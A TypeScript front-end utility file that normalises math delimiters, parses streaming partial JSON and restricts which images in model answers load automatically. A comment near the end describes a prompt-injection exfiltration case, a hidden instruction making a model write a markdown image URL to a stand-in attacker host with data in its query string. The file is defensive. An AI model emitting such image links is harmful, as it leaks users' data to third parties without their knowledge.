/**
 * Text fixes applied before the Markdown parser sees a model's answer.
 *
 * OpenAI models write math as `\( ... \)` and `\[ ... \]`; remark-math reads
 * `$$...$$` (inline or as a block). A single `$` is money, never math: remark-math
 * runs with `singleDollarTextMath: false`, so "$300M at about a $9.3B valuation"
 * stays text, and inline math becomes `$$...$$` here. Code (fenced blocks and
 * inline spans) is left alone.
 */
export function normaliseMathDelimiters(markdown: string): string {
  const parts = markdown.split(/(```[\s\S]*?(?:```|$)|~~~[\s\S]*?(?:~~~|$)|`[^`\n]*`)/g);
  return parts
    .map((part, index) => {
      if (index % 2 === 1) return part; // a code segment captured by the split
      return part
        .replace(/\\\[([\s\S]+?)\\\]/g, (_m, body: string) => `\n$$\n${body.trim()}\n$$\n`)
        .replace(/\\\(([\s\S]+?)\\\)/g, (_m, body: string) => `$$${body.trim()}$$`);
    })
    .join("");
}

/** The text of a parsed JSON value or of partial JSON still streaming in. */
export function parsePartialJson(text: string): unknown {
  const trimmed = text.trim();
  if (!trimmed) return undefined;
  try {
    return JSON.parse(trimmed);
  } catch {
    // fall through: close what is open and try again
  }
  const closers: string[] = [];
  let inString = false;
  let escaped = false;
  for (const ch of trimmed) {
    if (inString) {
      if (escaped) escaped = false;
      else if (ch === "\\") escaped = true;
      else if (ch === '"') inString = false;
      continue;
    }
    if (ch === '"') inString = true;
    else if (ch === "{") closers.push("}");
    else if (ch === "[") closers.push("]");
    else if (ch === "}" || ch === "]") closers.pop();
  }
  let candidate = trimmed;
  if (escaped) candidate = candidate.slice(0, -1);
  if (inString) candidate += '"';
  // A dangling separator or key without a value cannot be closed as is.
  for (let attempt = 0; attempt < 4; attempt++) {
    const closed = candidate.replace(/[,:]\s*$/, "") + [...closers].reverse().join("");
    try {
      return JSON.parse(closed);
    } catch {
      // drop the last incomplete key ("key" or "key": ) and retry
      candidate = candidate.replace(/,?\s*"[^"]*"\s*:?\s*$/, "");
    }
  }
  return undefined;
}

/**
 * Whether an image in an answer may load by itself: only images of our own
 * (code interpreter files from the backend, `data:` and `blob:` URLs). Any
 * other address is shown as a link: a hidden instruction in a web page, an
 * e-mail or a file can make a model write `![x](https://attacker/p.png?d=…)`,
 * and a browser that loads it sends that data out without a click.
 */
export function isOwnImage(src: string | undefined, apiBase: string): boolean {
  if (!src) return false;
  const value = src.trim();
  if (/^data:image\//i.test(value) || /^blob:/i.test(value)) return true;
  const own = `${apiBase}/api/container_files/`;
  return value.startsWith(own) || (apiBase !== "" && value.startsWith("/api/container_files/"));
}
